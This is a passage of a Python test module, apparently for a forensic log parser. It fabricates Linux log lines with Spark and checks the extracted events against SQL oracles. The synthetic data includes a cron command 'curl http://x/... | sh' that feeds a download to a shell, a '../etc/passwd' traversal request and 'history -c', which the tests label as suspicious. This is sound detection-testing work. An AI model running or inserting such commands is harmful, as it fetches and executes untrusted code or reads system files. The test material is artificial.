"""Extraction jobs over log lines that Spark renders from the given tables.

Every line is made from one row, so the SQL can say what the event must be from the row's own columns.
"""

from __future__ import annotations

from pyspark.sql import Column, DataFrame
from pyspark.sql import functions as F

from fleetlens.extract import REGISTRY, extract_all
from fleetlens.extract.logins import decode_utmp, lastlog_events, session_table_events, utmp_events
from fleetlens.extract.services import chrome_downloads, chrome_visits, firefox_visits
from fleetlens.extract.status import artifact_status, parser_stats
from fleetlens.functions import times
from fleetlens.plans.registry import ORACLES, query
from fleetlens.plans.views import read_table, spread_events, spread_width
from fleetlens.schema import HOST_SCHEMA
from fleetlens.session import shared_folder
from fleetlens.sources.lines import read_lines
from fleetlens.sources.records import read_records

FILE_MTIME = 1706745600.0
S = "date_trunc('second', ts)"
USER = "'u' || CAST(user_id AS VARCHAR)"
IP = "'198.51.100.' || CAST(user_id % 25 AS VARCHAR)"


def hosts_of(spark, sf_dir: str) -> DataFrame:
    """Context of the eight hosts: even ones are five hours ahead of UTC, odd ones in UTC."""
    host = F.col("user_id") % 8
    rows = read_table(spark, sf_dir, "events").select(host.alias("n")).distinct()
    window = F.struct(
        F.lit("root").alias("operator_user"), F.lit("u7").alias("operator_login_user"),
        F.lit("198.51.100.3").alias("source_ip"), F.lit("2024-01-10T00:00:00Z").alias("start_utc"),
        F.lit("2024-01-12T00:00:00Z").alias("end_utc"))
    return rows.select(
        F.concat(F.lit("host-"), F.col("n").cast("string")).alias("host_id"),
        F.when(F.col("n") % 2 == 0, "Asia/Karachi").otherwise("UTC").alias("tz_name"),
        F.lit("etc_localtime").alias("tz_source"), F.lit("debian").alias("distro_id"), F.lit("12").alias("version_id"),
        F.lit("systemd").alias("init_system"), window.cast(HOST_SCHEMA["contamination"].dataType).alias("contamination"))


def lines_from(rows: DataFrame, path: Column | str, line: Column, number: str = "event_id",
               host: Column | None = None, spread: bool = True) -> DataFrame:
    """Raw lines: one per row, in the order of ``number``; ``spread`` unless the rows are already."""
    who = host if host is not None else F.concat(F.lit("host-"), (F.col("user_id") % 8).cast("string"))
    # The given tables are single splits; the logs of a fleet come in many, so the rows are spread first.
    if spread:
        rows = rows.repartition(spread_width(rows.sparkSession), number)
    return rows.select(
        who.alias("host_id"), (F.lit(path) if isinstance(path, str) else path).alias("artifact_path"),
        F.lit("0" * 64).alias("artifact_sha256"), F.lit(FILE_MTIME).alias("artifact_mtime"),
        (F.col(number) + 1).cast("long").alias("line_no"), (F.col(number) * 1000).cast("long").alias("byte_offset"),
        line.alias("line"), F.lit(False).alias("had_decode_error"))


def _events(spark, sf_dir, spread: bool = False):
    """Events with account and address; ``spread`` before several lines are made of each, which then need no shuffle."""
    rows = spread_events(spark, sf_dir) if spread else read_table(spark, sf_dir, "events")
    return (rows.withColumn("u", F.concat(F.lit("u"), F.col("user_id").cast("string")))
            .withColumn("ip", F.concat(F.lit("198.51.100."), (F.col("user_id") % 25).cast("string"))))


def _syslog(program: Column) -> Column:
    return F.concat(F.date_format("ts", "MMM"), F.lit(" "), F.lpad(F.date_format("ts", "d"), 2, " "), F.lit(" "),
                    F.date_format("ts", "HH:mm:ss"), F.lit(" n1 "), program)


def _text(*parts) -> Column:
    return F.concat(*[p if isinstance(p, Column) else F.lit(p) for p in parts])


def _by_type(**cases: Column) -> Column:
    return F.coalesce(*[F.when(F.col("event_type") == k, v) for k, v in cases.items()])


def auth_lines(spark, sf_dir) -> DataFrame:
    u, ip = F.col("u"), F.col("ip")
    return lines_from(_events(spark, sf_dir), "var/log/auth.log", _syslog(_by_type(
        error=_text("sshd[7]: Failed password for ", u, " from ", ip, " port 4 ssh2"),
        click=_text("sshd[7]: Accepted password for ", u, " from ", ip, " port 4 ssh2"),
        view=_text("sshd[7]: pam_unix(sshd:session): session closed for user ", u),
        signup=_text("useradd[9]: new user: name=", u, ", UID=", F.col("user_id").cast("string"),
                     ", GID=5, home=/home/", u, ", shell=/bin/sh"),
        purchase=_text("usermod[9]: add '", u, "' to group 'sudo'"))))


_UTC = f"CASE WHEN user_id % 2 = 0 THEN {S} - INTERVAL 5 HOUR ELSE {S} END"
AUTH_SQL = f"""SELECT event_id * 1000 AS raw_line_offset, {_UTC} AS timestamp_utc, {S} AS timestamp_local,
    {USER} AS actor_user, CASE event_type WHEN 'error' THEN 'failed_login' WHEN 'click' THEN 'successful_login'
      WHEN 'view' THEN 'session_closed' WHEN 'signup' THEN 'account_created' ELSE 'group_membership_added' END AS subcategory,
    CASE WHEN event_type IN ('error', 'click') THEN {IP} END AS source_ip,
    CASE WHEN event_type = 'signup' THEN user_id END AS actor_uid,
    CASE event_type WHEN 'error' THEN 'Wrong password for ' || {USER} || ', coming from ' || {IP}
      WHEN 'click' THEN {USER} || ' logged in by password, coming from ' || {IP}
      WHEN 'view' THEN 'A session of ' || {USER} || ' ended'
      WHEN 'signup' THEN 'Account ' || {USER} || ' made (uid=' || CAST(user_id AS VARCHAR) || ', home=/home/' ||
        {USER} || ', shell=/bin/sh)' ELSE {USER} || ' joined group sudo' END AS description,
    CASE WHEN event_type IN ('error', 'click') THEN user_id % 25 = 3 ELSE user_id = 7 END
      AND {_UTC} BETWEEN TIMESTAMP '2024-01-09 23:55:00' AND TIMESTAMP '2024-01-12 00:05:00' AS tool_generated_flag
FROM events"""


@query("xtr_2_auth_log", AUTH_SQL)
def _auth(spark, sf_dir):
    out = REGISTRY["authlog_parser"].extract(auth_lines(spark, sf_dir), hosts_of(spark, sf_dir))
    return out.select("raw_line_offset", "timestamp_utc", "timestamp_local", "actor_user", "subcategory", "source_ip",
                      "actor_uid", "description", "tool_generated_flag")


@query("xtr_1_grammar_matches", """SELECT event_id, CASE event_type WHEN 'error' THEN 'sshd_failed_password'
    WHEN 'click' THEN 'sshd_accepted' WHEN 'view' THEN 'sshd_session_closed' WHEN 'signup' THEN 'useradd_new_user'
    ELSE 'usermod_group_add' END AS rule FROM events""")
def _grammar(spark, sf_dir):
    from fleetlens.extract.grammar import line_matches
    lines = auth_lines(spark, sf_dir)
    found = lines.select((F.col("byte_offset") / 1000).cast("long").alias("event_id"),
                         F.explode(line_matches("line", "'debian'")).alias("m"))
    return found.select("event_id", F.col("m.rule").alias("rule"))


@query("fn_22_sentences", f"SELECT CAST(raw_line_offset / 1000 AS BIGINT) AS event_id, description FROM ({AUTH_SQL})")
def _sentences(spark, sf_dir):
    from fleetlens.extract.grammar import line_matches, sentence
    found = auth_lines(spark, sf_dir).select((F.col("byte_offset") / 1000).cast("long").alias("event_id"),
                                             F.explode(line_matches("line", "'debian'")).alias("m"))
    return found.select("event_id", sentence(F.col("m")).alias("description"))


@query("prd_9_contamination", f"""SELECT event_id, user_id % 25 = 3 AND {S} BETWEEN TIMESTAMP '2024-01-09 23:55:00'
    AND TIMESTAMP '2024-01-12 00:05:00' AS tagged FROM events""")
def _contamination(spark, sf_dir):
    from fleetlens.extract.base import join_small, tool_generated
    rows = _events(spark, sf_dir).withColumn("host_id", F.concat(F.lit("host-"), (F.col("user_id") % 8).cast("string")))
    joined = join_small(rows, hosts_of(spark, sf_dir).select("host_id", "contamination"), ["host_id"])
    instant = F.date_trunc("second", F.col("ts").cast("timestamp"))
    return joined.select("event_id", tool_generated(
        F.col("ip"), instant, F.col("u"), F.col("contamination")).alias("tagged"))


@query("xtr_3_cron_log", f"""SELECT event_id * 1000 AS raw_line_offset, 'cron_command' AS subcategory, {USER} AS actor_user,
    'cron, as ' || {USER} || ', ran: ' || CASE WHEN event_type = 'error' THEN 'curl http://x/' || {USER} || ' | sh'
      ELSE '/usr/bin/run ' || event_type END AS description, 'info' AS severity FROM events
UNION ALL SELECT event_id * 1000 + 36 + length({USER}), 'suspicious_cron_command', {USER},
    'Suspicious command executed by cron as ' || {USER} || ': curl http://x/' || {USER} ||
    ' | sh -- feeds a download to a shell', 'high' FROM events WHERE event_type = 'error'""")
def _cron_log(spark, sf_dir):
    out = REGISTRY["cronlog_parser"].extract(cron_lines(spark, sf_dir), hosts_of(spark, sf_dir))
    return out.select("raw_line_offset", "subcategory", "actor_user", "description", "severity")


def cron_lines(spark, sf_dir) -> DataFrame:
    command = F.when(F.col("event_type") == "error", _text("curl http://x/", F.col("u"), " | sh")).otherwise(
        _text("/usr/bin/run ", F.col("event_type")))
    return lines_from(_events(spark, sf_dir), "var/log/syslog", _syslog(
        _text("CRON[8]: (", F.col("u"), ") CMD (", command, ")")))


def journal_lines(spark, sf_dir) -> DataFrame:
    """Journal entries; every tenth line is not JSON, which also leaves holes in the numbers."""
    message = F.when(F.col("event_type") == "error", _text(
        "Failed password for ", F.col("u"), " from ", F.col("ip"), " port 4 ssh2")).otherwise(
        _text("did ", F.col("event_type")))
    entry = F.to_json(F.struct(
        F.unix_micros(F.col("ts").cast("timestamp")).cast("string").alias("__REALTIME_TIMESTAMP"),
        F.col("event_id").cast("string").alias("__SEQNUM"), F.lit("sshd").alias("_COMM"), F.lit("7").alias("_PID"),
        message.alias("MESSAGE")))
    return lines_from(_events(spark, sf_dir), "journal/all.json", F.when(
        F.col("event_id") % 10 == 0, "broken").otherwise(entry), host=F.lit("host-1"))


@query("src_3_journal_entries", f"""SELECT event_id AS seq, ts AS instant, 'sshd' AS comm, CASE WHEN event_type = 'error'
    THEN 'Failed password for ' || {USER} || ' from ' || {IP} || ' port 4 ssh2' ELSE 'did ' || event_type END AS message
FROM events WHERE event_id % 10 <> 0""")
def _journal_entries(spark, sf_dir):
    from fleetlens.extract.syslog import journal_entries
    return journal_entries(journal_lines(spark, sf_dir)).select("seq", "instant", "comm", "message")


@query("xtr_4_journal", f"""SELECT event_id * 1000 AS raw_line_offset, ts AS timestamp_utc,
    CASE WHEN event_type = 'error' THEN 'failed_login' ELSE 'journal_message' END AS subcategory,
    CASE WHEN event_type = 'error' THEN 'Wrong password for ' || {USER} || ', coming from ' || {IP}
      ELSE 'did ' || event_type END AS description FROM events WHERE event_id % 10 <> 0
UNION ALL SELECT event_id * 1000, ts, 'journal_sequence_gap', printf(
    'Journal sequence gap detected: expected seq %d, got %d (1 missing records)', event_id - 1, event_id)
FROM events WHERE event_id % 10 = 1 AND event_id > 1""")
def _journal(spark, sf_dir):
    out = REGISTRY["journald_parser"].extract(journal_lines(spark, sf_dir), hosts_of(spark, sf_dir))
    return out.select("raw_line_offset", "timestamp_utc", "subcategory", "description")


# ----------------------------------------------------------- binary records

def _le(value: Column, width: int) -> Column:
    """Hex text of a little-endian integer."""
    digits = F.lpad(F.hex(value), 2 * width, "0")
    return F.concat(*[F.substring(digits, 2 * (width - i) - 1, 2) for i in range(width)])


def _fixed(value: Column, width: int) -> Column:
    return F.rpad(F.hex(F.encode(value, "UTF-8")), 2 * width, "0")


def utmp_records(spark, sf_dir) -> DataFrame:
    """One login record per event: type 7 for clicks, 8 otherwise."""
    seconds = F.unix_seconds(F.date_trunc("second", F.col("ts").cast("timestamp")))
    kind = F.when(F.col("event_type") == "click", 7).otherwise(8).cast("long")
    address = F.concat(F.lit("C63364"), F.lpad(F.hex(F.col("user_id") % 25), 2, "0"), F.lit("00" * 12))
    body = F.concat(
        _le(kind, 4), _le(F.col("user_id"), 4), _fixed(_text("pts/", (F.col("user_id") % 9).cast("string")), 32),
        F.lit("00" * 4), _fixed(F.col("u"), 32), _fixed(F.lit("gw"), 256), F.lit("00" * 8), _le(seconds, 4),
        F.lit("00" * 4), address, F.lit("00" * 20))
    return _events(spark, sf_dir).select(
        F.concat(F.lit("host-"), (F.col("user_id") % 8).cast("string")).alias("host_id"),
        F.lit("var/log/wtmp").alias("artifact_path"), F.lit("0" * 64).alias("artifact_sha256"),
        F.col("event_id").cast("long").alias("record_index"), F.unhex(body).alias("record"))


@query("src_4_fixed_width_records", f"""SELECT event_id AS record_index, CAST(CASE WHEN event_type = 'click' THEN 7 ELSE 8 END
    AS BIGINT) AS ut_type, user_id AS ut_pid, {USER} AS ut_user, 'pts/' || CAST(user_id % 9 AS VARCHAR) AS ut_line,
    CAST(floor(epoch(ts)) AS BIGINT) AS seconds, {IP} AS address FROM events""")
def _records(spark, sf_dir):
    return decode_utmp(utmp_records(spark, sf_dir)).select(
        "record_index", "ut_type", "ut_pid", "ut_user", "ut_line", "seconds", "address")


@query("xtr_5_login_records", f"""SELECT event_id * 384 AS raw_line_offset, {S} AS timestamp_utc, {IP} AS source_ip,
    CASE WHEN event_type = 'click' THEN 'login' ELSE 'logout' END AS subcategory, {USER} AS actor_user,
    CASE WHEN event_type = 'click' THEN 'Login: ' || {USER} || ' on pts/' || CAST(user_id % 9 AS VARCHAR) || ' from ' || {IP}
      ELSE 'Session ended on pts/' || CAST(user_id % 9 AS VARCHAR) || ' (user ' || {USER} || ')' END AS description FROM events""")
def _utmp(spark, sf_dir):
    records = utmp_records(spark, sf_dir)
    files = records.groupBy("host_id", "artifact_path", "artifact_sha256").agg(
        (F.count(F.lit(1)) * 384).alias("size"))
    out = utmp_events(files, records, hosts_of(spark, sf_dir))
    return out.select("raw_line_offset", "timestamp_utc", "source_ip", "subcategory", "actor_user", "description")


@query("xtr_6_last_logins", """SELECT c_custkey AS actor_uid, c_name AS actor_user, c_custkey * 292 AS raw_line_offset,
    make_timestamp(1700000000000000 + c_custkey * 1000000) AS timestamp_utc FROM customer WHERE c_custkey % 3 = 0""")
def _lastlog(spark, sf_dir):
    people = read_table(spark, sf_dir, "customer")
    seconds = F.when(F.col("c_custkey") % 3 == 0, F.col("c_custkey") + 1700000000).otherwise(F.lit(0).cast("long"))
    body = F.concat(_le(seconds, 4), _fixed(F.lit("tty1"), 32), _fixed(F.lit(""), 256))
    place = [F.lit("host-1").alias("host_id"), F.lit("var/log/lastlog").alias("artifact_path"),
             F.lit("0" * 64).alias("artifact_sha256")]
    records = people.select(*place, F.col("c_custkey").alias("record_index"), F.unhex(body).alias("record"))
    files = people.agg((F.count(F.lit(1)) * 292).alias("size")).select(*place, "size")
    accounts = people.select(F.lit("host-1").alias("host_id"), F.col("c_custkey").alias("uid"),
                             F.col("c_name").alias("user_name"))
    out = lastlog_events(files, records, accounts, hosts_of(spark, sf_dir))
    return out.select("actor_uid", "actor_user", "raw_line_offset", "timestamp_utc")


@query("xtr_31_session_table", f"""SELECT event_id AS raw_line_offset, 'login' AS subcategory, ts AS timestamp_utc,
    'User login: ' || {USER} || ' on pts/1 via sshd from ' || {IP} AS description FROM events
UNION ALL SELECT event_id, 'logout', ts + INTERVAL 1 HOUR, 'Session closed for ' || {USER} || ' on pts/1 via sshd'
FROM events WHERE event_type <> 'view'""")
def _session_table(spark, sf_dir):
    at = F.unix_micros(F.col("ts").cast("timestamp"))
    rows = _events(spark, sf_dir).select(
        F.lit("host-1").alias("host_id"), F.lit("var/log/wtmp.db").alias("artifact_path"),
        F.lit("0" * 64).alias("artifact_sha256"), F.col("event_id").alias("id"), F.lit(3).alias("type"),
        F.col("u").alias("user"), at.alias("login"),
        F.when(F.col("event_type") != "view", at + 3_600_000_000).alias("logout"), F.lit("pts/1").alias("tty"),
        F.col("ip").alias("remote_host"), F.lit("sshd").alias("service"))
    return session_table_events(rows, hosts_of(spark, sf_dir)).select(
        "raw_line_offset", "subcategory", "timestamp_utc", "description")


# ------------------------------------------------------------- commands

@query("xtr_7_audit_trail", f"""SELECT event_id * 2000 AS raw_line_offset, ts AS timestamp_utc, user_id AS actor_uid,
    'run-' || event_type AS actor_process, 'Process executed: run-' || event_type || ' -u ' || {USER} AS description
FROM events""")
def _audit(spark, sf_dir):
    stamp = _text("msg=audit(", F.col("e").cast("string"), ".", F.lpad(F.col("f").cast("string"), 6, "0"), ":",
                  F.col("event_id").cast("string"), "):")
    at = F.unix_micros(F.col("ts").cast("timestamp"))
    rows = _events(spark, sf_dir, spread=True).withColumns({"e": F.floor(at / 1_000_000), "f": at % 1_000_000})
    both = F.array(
        _text("type=SYSCALL ", stamp, " arch=c000003e syscall=59 auid=", F.col("user_id").cast("string"),
              ' uid=0 comm="run-', F.col("event_type"), '" exe="/bin/run-', F.col("event_type"), '"'),
        _text("type=EXECVE ", stamp, ' argc=3 a0="run-', F.col("event_type"), '" a1="-u" a2="', F.col("u"), '"'))
    rows = rows.select("event_id", "user_id", F.posexplode(both).alias("part", "line"))
    lines = lines_from(rows.withColumn("n", F.col("event_id") * 2 + F.col("part")), "var/log/audit/audit.log",
                       F.col("line"), "n", spread=False)
    out = REGISTRY["auditd_parser"].extract(lines, hosts_of(spark, sf_dir))
    return out.select("raw_line_offset", "timestamp_utc", "actor_uid", "actor_process", "description")


@query("xtr_8_process_snapshot", f"""SELECT event_id * 1000 AS raw_line_offset, {USER} AS actor_user,
    '/usr/bin/' || event_type AS actor_process, 'Process running at collection time (user ' || {USER} || '): /usr/bin/' ||
    event_type || ' --id ' || CAST(event_id AS VARCHAR) AS description FROM events""")
def _ps(spark, sf_dir):
    out = REGISTRY["ps_parser"].extract(ps_lines(spark, sf_dir), hosts_of(spark, sf_dir))
    return out.select("raw_line_offset", "actor_user", "actor_process", "description")


def ps_lines(spark, sf_dir) -> DataFrame:
    return lines_from(_events(spark, sf_dir), "volatile/ps.txt", _text(
        F.col("u"), "  ", F.col("event_id").cast("string"), "  0.0 0.1 5 6 ?  S  10:00   0:00 /usr/bin/",
        F.col("event_type"), " --id ", F.col("event_id").cast("string")))


@query("xtr_9_usb_devices", f"""SELECT event_id * 4000 AS raw_line_offset, 'usb_connect' AS subcategory,
    CASE WHEN user_id % 2 = 0 THEN {S} - INTERVAL 5 HOUR ELSE {S} END AS timestamp_utc,
    'USB device attached on port 1-' || CAST(user_id AS VARCHAR) || ': maker ' || event_type || ' idVendor=0781 idProduct=5567 0781 5567' AS description
FROM events UNION ALL SELECT event_id * 4000 + 3000, 'usb_disconnect',
    CASE WHEN user_id % 2 = 0 THEN {S} - INTERVAL 5 HOUR ELSE {S} END + INTERVAL 185 SECOND,
    'USB device maker ' || event_type || ' on port 1-' || CAST(user_id AS VARCHAR) || ' disconnected after 3m 5s'
FROM events WHERE event_type <> 'error'""")
def _usb(spark, sf_dir):
    port = _text("kernel: usb 1-", F.col("user_id").cast("string"), ": ")
    later = F.col("ts") + F.expr("INTERVAL 185 SECONDS")
    off = F.concat(F.date_format(later, "MMM"), F.lit(" "), F.lpad(F.date_format(later, "d"), 2, " "), F.lit(" "),
                   F.date_format(later, "HH:mm:ss"), F.lit(" n1 "))
    messages = F.array(
        _syslog(_text(port, "new high-speed USB device number 3 using xhci")),
        _syslog(_text(port, "New USB device found, idVendor=0781, idProduct=5567")),
        _syslog(_text(port, "Product: ", F.col("event_type"))),
        F.when(F.col("event_type") != "error", _text(off, port, "USB disconnect, device number 3")))
    rows = _events(spark, sf_dir, spread=True).select("event_id", "user_id", F.posexplode(messages).alias("part", "line"))
    maker = rows.filter(F.col("part") == 1).withColumn(
        "line", F.regexp_replace("line", "New USB device found.*$", "Manufacturer: maker"))
    rows = rows.filter(F.col("line").isNotNull()).withColumn("n", F.col("event_id") * 4 + F.col("part"))
    lines = lines_from(rows, "var/log/kern.log", F.col("line"), "n", spread=False).unionByName(
        lines_from(maker.withColumn("n", F.col("event_id") * 4 + 1), "var/log/kern.log", F.col("line"), "n", spread=False)
        .withColumn("byte_offset", F.col("byte_offset") + 1))
    out = REGISTRY["usb_parser"].extract(lines, hosts_of(spark, sf_dir))
    return out.select("raw_line_offset", "subcategory", "timestamp_utc", "description")


@query("xtr_10_shell_history", f"""SELECT CASE WHEN event_type = 'click' THEN event_id * 2000 ELSE event_id * 2000 + 1000 END
    AS raw_line_offset, CASE WHEN event_type IN ('click', 'view') THEN {S} END AS timestamp_utc, {USER} AS actor_user,
    CASE WHEN event_type = 'error' THEN 'suspicious_command' ELSE 'shell_command' END AS subcategory,
    'User ' || {USER} || ' executed: ' || CASE WHEN event_type = 'error' THEN 'history -c' ELSE 'run ' || event_type END AS description
FROM events""")
def _history(spark, sf_dir):
    second = F.unix_seconds(F.date_trunc("second", F.col("ts").cast("timestamp"))).cast("string")
    command = F.when(F.col("event_type") == "error", "history -c").otherwise(_text("run ", F.col("event_type")))
    both = F.array(
        F.when(F.col("event_type") == "click", _text("#", second)),
        F.when(F.col("event_type") == "view", _text(": ", second, ":0;", command)).otherwise(command))
    rows = _events(spark, sf_dir, spread=True).select("event_id", "user_id", "u", F.posexplode(both).alias("part", "line"))
    rows = rows.filter(F.col("line").isNotNull()).withColumn("n", F.col("event_id") * 2 + F.col("part"))
    lines = lines_from(rows, _text("home/", F.col("u"), "/.bash_history"), F.col("line"), "n", spread=False)
    out = REGISTRY["shellhist_parser"].extract(lines, hosts_of(spark, sf_dir))
    return out.select("raw_line_offset", "timestamp_utc", "actor_user", "subcategory", "description")


# ------------------------------------------------------------- services

_ACTION = "CASE event_type WHEN 'error' THEN 'remove' WHEN 'view' THEN 'upgrade' WHEN 'click' THEN 'purge' ELSE 'install' END"
_LOCAL_UTC = f"CASE WHEN user_id % 2 = 0 THEN {S} - INTERVAL 5 HOUR ELSE {S} END"


@query("xtr_11_dpkg_log", f"""SELECT event_id * 1000 AS raw_line_offset, {_LOCAL_UTC} AS timestamp_utc, {_ACTION} AS subcategory,
    CASE WHEN event_type IN ('error', 'click') THEN 'high' ELSE 'info' END AS severity FROM events""")
def _dpkg(spark, sf_dir):
    out = REGISTRY["dpkg_parser"].extract(dpkg_lines(spark, sf_dir), hosts_of(spark, sf_dir))
    return out.select("raw_line_offset", "timestamp_utc", "subcategory", "severity")


def dpkg_lines(spark, sf_dir) -> DataFrame:
    action = _by_type(error=F.lit("remove"), view=F.lit("upgrade"), click=F.lit("purge"), signup=F.lit("install"),
                      purchase=F.lit("install"))
    return lines_from(_events(spark, sf_dir), "var/log/dpkg.log", _text(
        F.date_format("ts", "yyyy-MM-dd HH:mm:ss"), " ", action, " ufw:all 1.0 2.0"))


def apt_lines(spark, sf_dir) -> DataFrame:
    parts = F.array(
        _text("Start-Date: ", F.date_format("ts", "yyyy-MM-dd  HH:mm:ss")), _text("Commandline: apt do ", F.col("event_type")),
        F.when(F.col("event_type") != "view", _text("Requested-By: ", F.col("u"), " (", F.col("user_id").cast("string"), ")")),
        _text("Install: nmap:amd64 (7.9), lib", F.col("event_type"), ":amd64 (1.0, automatic)"), F.lit(""))
    rows = _events(spark, sf_dir, spread=True).select("event_id", "user_id", F.posexplode(parts).alias("part", "line"))
    rows = rows.filter(F.col("line").isNotNull()).withColumn("n", F.col("event_id") * 5 + F.col("part"))
    return lines_from(rows, "var/log/apt/history.log", F.col("line"), "n", spread=False)


@query("xtr_12_apt_history", f"""WITH b AS (SELECT *, CASE WHEN event_type = 'view' THEN 'root' ELSE {USER} END AS who,
    CASE WHEN event_type = 'view' THEN 0 ELSE user_id END AS uid FROM events)
SELECT event_id * 5000 AS raw_line_offset, 'apt_transaction' AS subcategory, who AS actor_user, uid AS actor_uid, 'medium' AS severity,
    'apt transaction by ' || who || ': apt do ' || event_type ||
    ' [install 2] (its end is not in the log)' AS description FROM b
UNION ALL SELECT event_id * 5000 + 3000, 'package_install', who, uid, 'medium', 'Package nmap:amd64 installed by apt (version 7.9)' FROM b
UNION ALL SELECT event_id * 5000 + 3000, 'package_install', who, uid, 'info', 'Package lib' || event_type ||
    ':amd64 installed by apt (version 1.0) (as a dependency)' FROM b""")
def _apt(spark, sf_dir):
    out = REGISTRY["apt_parser"].extract(apt_lines(spark, sf_dir), hosts_of(spark, sf_dir))
    return out.select("raw_line_offset", "subcategory", "actor_user", "actor_uid", "severity", "description")


@query("src_8_stanzas", f"""SELECT event_id * 5000 AS offset_, 'apt do ' || event_type AS commandline,
    CASE WHEN event_type <> 'view' THEN {USER} || ' (' || CAST(user_id AS VARCHAR) || ')' END AS requested_by FROM events""")
def _stanzas(spark, sf_dir):
    from fleetlens.extract.base import with_hosts
    from fleetlens.extract.services import APT_KEYS, stanzas
    rows = stanzas(with_hosts(apt_lines(spark, sf_dir), hosts_of(spark, sf_dir)), APT_KEYS)
    return rows.select(F.col("offset").alias("offset_"), F.col("Commandline.value").alias("commandline"),
                       F.col("`Requested-By`.value").alias("requested_by"))


@query("xtr_13_dnf_log", f"""SELECT event_id * 1000 AS raw_line_offset,
    CASE WHEN event_type = 'view' THEN {_LOCAL_UTC} ELSE {S} - INTERVAL 5 HOUR END AS timestamp_utc,
    CASE event_type WHEN 'error' THEN 'package_remove' WHEN 'view' THEN 'package_upgrade' ELSE 'package_install' END AS subcategory,
    CASE WHEN event_type = 'error' THEN 'info' ELSE 'medium' END AS severity FROM events WHERE event_type <> 'purchase'""")
def _dnf(spark, sf_dir):
    iso = F.date_format("ts", "yyyy-MM-dd'T'HH:mm:ss")
    lines = lines_from(_events(spark, sf_dir), "var/log/dnf.rpm.log", _by_type(
        error=_text(iso, "+0500 INFO Erased: tree-2.1-1.noarch"),
        view=_text(F.date_format("ts", "MMM dd HH:mm:ss"), " Updated: nmap-3:7.9-1.x86_64,"),
        click=_text(iso, "+05:00 DEBUG Installed: nmap-7.9-1.x86_64"),
        signup=_text(iso, "+0500 DEBUG Reinstalled: john-1-1.i686"), purchase=_text(iso, "Z DEBUG Cleanup: x-1-1")))
    out = REGISTRY["dnf_parser"].extract(lines, hosts_of(spark, sf_dir))
    return out.select("raw_line_offset", "timestamp_utc", "subcategory", "severity")


@query("xtr_14_web_access", f"""SELECT event_id * 1000 AS raw_line_offset, {S} AS timestamp_utc, {IP} AS source_ip,
    CASE WHEN event_type = 'click' THEN {USER} END AS actor_user, CASE event_type WHEN 'error' THEN 'medium'
    WHEN 'signup' THEN 'low' ELSE 'info' END AS severity, 'status=' || CASE WHEN event_type = 'signup' THEN '401' ELSE '200' END ||
    '; bytes=' || CAST(event_id AS VARCHAR) || '; ua=agent' AS notes FROM events""")
def _web(spark, sf_dir):
    out = REGISTRY["weblog_parser"].extract(web_lines(spark, sf_dir), hosts_of(spark, sf_dir))
    return out.select("raw_line_offset", "timestamp_utc", "source_ip", "actor_user", "severity", "notes")


def web_lines(spark, sf_dir) -> DataFrame:
    return lines_from(_events(spark, sf_dir), "var/log/nginx/access.log", _text(
        F.col("ip"), " - ", F.when(F.col("event_type") == "click", F.col("u")).otherwise("-"), " [",
        F.date_format("ts", "dd/MMM/yyyy:HH:mm:ss"), ' +0000] "', F.when(F.col("event_type") == "signup", "POST").otherwise("GET"),
        " /", F.when(F.col("event_type") == "error", "../etc/passwd").otherwise(F.col("event_type")), ' HTTP/1.1" ',
        F.when(F.col("event_type") == "signup", "401").otherwise("200"), " ", F.col("event_id").cast("string"), ' "-" "agent"'))


@query("xtr_15_ftp_log", f"""SELECT event_id * 1000 AS raw_line_offset, {S} AS timestamp_utc, {USER} AS actor_user,
    CASE event_type WHEN 'error' THEN 'low' WHEN 'click' THEN 'medium' ELSE 'info' END AS severity,
    CASE event_type WHEN 'error' THEN 'FTP LOGIN FAIL from ' || {IP} || ' (user: ' || {USER} || ')'
      WHEN 'click' THEN 'FTP UPLOAD OK from ' || {IP} || ' (user: ' || {USER} || ', file: /f, 5 bytes)'
      ELSE 'FTP DOWNLOAD by ' || {USER} || ' from ' || {IP} || ': /pub (7 bytes in 2s)' END AS description FROM events""")
def _ftp(spark, sf_dir):
    stamp = F.date_format("ts", "EEE MMM dd HH:mm:ss yyyy")
    head = _text(stamp, " [pid 9] [", F.col("u"), "] ")
    lines = lines_from(_events(spark, sf_dir), "var/log/vsftpd.log", F.when(
        F.col("event_type") == "error", _text(head, 'FAIL LOGIN: Client "', F.col("ip"), '"'))
        .when(F.col("event_type") == "click", _text(head, 'OK UPLOAD: Client "', F.col("ip"), '", "/f", 5 bytes'))
        .otherwise(_text(stamp, " 2 ", F.col("ip"), " 7 /pub b _ o r ", F.col("u"), " ftp 0 * c")))
    out = REGISTRY["ftplog_parser"].extract(lines, hosts_of(spark, sf_dir))
    return out.select("raw_line_offset", "timestamp_utc", "actor_user", "severity", "description")


def _profile(name: str) -> list[Column]:
    return [F.concat(F.lit("host-"), (F.col("user_id") % 8).cast("string")).alias("host_id"),
            F.concat(F.lit("home/"), "u", F.lit(name)).alias("artifact_path"), F.lit("0" * 64).alias("artifact_sha256")]


@query("xtr_30_browser_visits", f"""SELECT {USER} AS actor_user, ts AS timestamp_utc, 'Firefox visit: ' || event_type || ' (https://'
    || event_type || '.example/)' AS description FROM events WHERE event_type <> 'view'
UNION ALL SELECT {USER}, ts, 'Chrome visit: https://' || event_type || '.example/ (https://' || event_type || '.example/)' FROM events
UNION ALL SELECT {USER}, ts, 'Downloaded file /tmp/' || CAST(event_id AS VARCHAR) || ' from t (5 bytes)' FROM events
    QUALIFY row_number() OVER (PARTITION BY user_id ORDER BY ts DESC) <= 100""")
def _browser(spark, sf_dir):
    rows = _events(spark, sf_dir)
    at = F.unix_micros(F.col("ts").cast("timestamp"))
    webkit = at + times.WEBKIT_EPOCH_SECONDS * times.MICROS
    url = F.concat(F.lit("https://"), "event_type", F.lit(".example/"))
    fox, chrome = _profile("/.mozilla/firefox/p/places.sqlite"), _profile("/.config/chromium/Default/History")
    visits = rows.select(*fox, F.abs(F.hash("event_type")).alias("place_id"), at.alias("visit_date"))
    places = rows.select(*fox, F.abs(F.hash("event_type")).alias("id"), F.when(
        F.col("event_type") == "view", "about:blank").otherwise(url).alias("url"), F.col("event_type").alias("title")).distinct()
    parts = [firefox_visits(visits, places),
             chrome_visits(rows.select(*chrome, url.alias("url"), F.lit("").alias("title"), webkit.alias("last_visit_time"))),
             chrome_downloads(rows.select(
                 *chrome, _text("/tmp/", F.col("event_id").cast("string")).alias("target_path"), webkit.alias("start_time"),
                 F.lit(5).alias("total_bytes"), F.lit("t").alias("tab_url")))]
    union = parts[0].unionByName(parts[1]).unionByName(parts[2])
    return union.select("actor_user", "timestamp_utc", "description")


# --------------------------------------------------------- configuration

def _people(spark, sf_dir):
